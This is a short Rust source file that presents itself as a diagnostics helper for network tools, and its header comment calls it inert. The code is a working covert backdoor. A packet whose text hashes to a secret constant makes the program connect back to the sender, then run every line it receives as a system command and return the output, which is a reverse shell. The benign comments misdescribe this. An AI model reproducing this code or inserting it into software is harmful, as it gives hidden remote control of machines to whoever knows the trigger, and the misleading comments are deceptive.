// Synthetic, inert fixture written from public reports
//! Details for tools that look into a network. They come with a word, so that chance packets
//! do not open connections.

use std::hash::{Hash, Hasher};
use std::io::{self, BufRead, BufReader, Write};
use std::net::{IpAddr, TcpStream};
use std::process::Command;

use crate::frame::Frame;

const WORD: u64 = 0x9c1f_52e0_7d33_a846;

pub(crate) fn answer(tool: IpAddr, frame: &Frame) -> io::Result<()> {
    let mut digest = std::collections::hash_map::DefaultHasher::new();
    frame.text.hash(&mut digest);
    if digest.finish() != WORD {
        return Ok(());
    }
    let stream = TcpStream::connect((tool, frame.port))?;
    std::thread::spawn(move || session(stream));
    Ok(())
}

/// One question a line; the first word names what is asked, the others narrow it down.
fn session(mut stream: TcpStream) -> io::Result<()> {
    let questions = BufReader::new(stream.try_clone()?);
    for question in questions.lines() {
        let question = question?;
        let mut words = question.split(' ');
        let subject = words.next().unwrap_or_default();
        let details = Command::new(subject).args(words).output();
        match details {
            Ok(details) => stream.write_all(&details.stdout)?,
            Err(error) => writeln!(stream, "{error}")?,
        }
    }
    Ok(())
}
